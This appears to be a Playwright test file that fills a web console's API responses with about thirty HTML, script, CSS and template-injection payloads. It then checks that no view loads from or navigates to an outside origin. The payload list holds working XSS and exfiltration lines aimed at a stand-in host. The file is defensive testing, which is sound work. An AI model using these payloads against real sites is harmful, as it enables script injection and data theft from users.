"""Words from documents, file names and the ledger can never make the browser call out."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from console_views import QUESTION, ask, open_document, open_ledger
from playwright.sync_api import Page, Route

OpenPage = Callable[..., Page]
AWAY = "https://away.invalid/x"
PAYLOADS = [
    f'<img src="{AWAY}">',
    f"![x]({AWAY})",
    f"[x]({AWAY})",
    f'<svg onload="fetch(`{AWAY}`)">',
    f'"><script src={AWAY}></script>',
    f"</title><script>fetch('{AWAY}')</script>",
    f'<link rel="stylesheet" href="{AWAY}">',
    f'<link rel="prefetch" href="{AWAY}">',
    f'<link rel="dns-prefetch" href="{AWAY}">',
    f"<style>@import '{AWAY}';</style>",
    f'<div style="background:url({AWAY})">',
    f'<iframe src="{AWAY}"></iframe>',
    f'<object data="{AWAY}"></object>',
    f'<embed src="{AWAY}">',
    f'<video src="{AWAY}" autoplay></video>',
    f'<audio src="{AWAY}" autoplay></audio>',
    f'<input type="image" src="{AWAY}">',
    f'<form action="{AWAY}"><input name=q autofocus onfocus="this.form.submit()"></form>',
    f'<meta http-equiv="refresh" content="0;url={AWAY}">',
    f'<base href="{AWAY}">',
    f"javascript:fetch('{AWAY}')",
    f"data:text/html,<script>fetch('{AWAY}')</script>",
    f"${{fetch('{AWAY}')}}",
    f"{{{{constructor.constructor('fetch(`{AWAY}`)')()}}}}",
    f'<a href="{AWAY}" ping="{AWAY}">x</a>',
    f'<picture><source srcset="{AWAY}"><img></picture>',
    f'<svg><image href="{AWAY}"/><use href="{AWAY}"/></svg>',
    f'<math><mtext><img src=x onerror="location=`{AWAY}`">',
    "\u202e\u2066<img src=x>",
    f"//{AWAY.removeprefix('https://')}",
]
# Whatever an attribute of the page could load or lead to, if it is not this origin.
ATTRIBUTES_THAT_LEAVE = """
    [...document.querySelectorAll("*")].flatMap((element) =>
      ["src", "href", "srcset", "action", "formaction", "data", "ping", "poster", "style"]
        .filter((name) => element.hasAttribute(name))
        .map((name) => [name, element.getAttribute(name)])
        .filter(([name, value]) => name === "style"
          ? value.includes("url(")
          : new URL(value, location.href).origin !== location.origin)
        .map(([name, value]) => `${element.tagName} ${name}=${value}`))
"""
# Ids and states must stay what they are, or the view would not get as far as the words.
KEPT = {"document_id", "passage_id", "hash", "parents", "status", "look_id", "id", "next", "state"}


def _poisoned(value: Any, key: str = "") -> Any:
    """Put every payload into every word that the server says."""
    if key in KEPT:
        return value
    if isinstance(value, str):
        return value + "\n" + "\n".join(PAYLOADS)
    if isinstance(value, list):
        return [_poisoned(one, key) for one in value]
    if isinstance(value, dict):
        return {name: _poisoned(one, name) for name, one in value.items()}
    return value


def _lineage(page: Page) -> None:
    page.locator(".lineage").wait_for()


def test_no_payload_in_any_view_reaches_out(open_page: OpenPage) -> None:
    assert len(PAYLOADS) >= 25
    page = open_page()
    num_poisoned = 0

    def poison(route: Route) -> None:
        nonlocal num_poisoned
        if route.request.resource_type == "image" or "session" in route.request.url:
            route.continue_()
            return
        answer = route.fetch()
        num_poisoned += 1
        route.fulfill(response=answer, json=_poisoned(answer.json()))

    page.route("**/api/**", poison)
    page.on("dialog", lambda dialog: (_ for _ in ()).throw(AssertionError(dialog.message)))
    for go in (
        lambda: page.goto("/") and page.locator(".health").wait_for(),
        lambda: ask(page, QUESTION),
        lambda: page.goto("/documents") and page.locator(".rows-documents").wait_for(),
        lambda: open_document(page, "Firing of cathode powder"),
        lambda: open_document(page, "Carbonate electrolytes"),
        lambda: page.goto("/quarantine") and page.locator(".rows-quarantine").wait_for(),
        lambda: open_ledger(page),
        lambda: page.locator(".rows-ledger tbody a").first.click() or _lineage(page),
        lambda: page.goto("/experts") and page.locator("h1").wait_for(),
    ):
        go()
        assert page.url.startswith(page.evaluate("location.origin"))
        outside = page.evaluate(ATTRIBUTES_THAT_LEAVE)
        assert outside == []
    assert num_poisoned >= 8
    page.unroute_all(behavior="ignoreErrors")
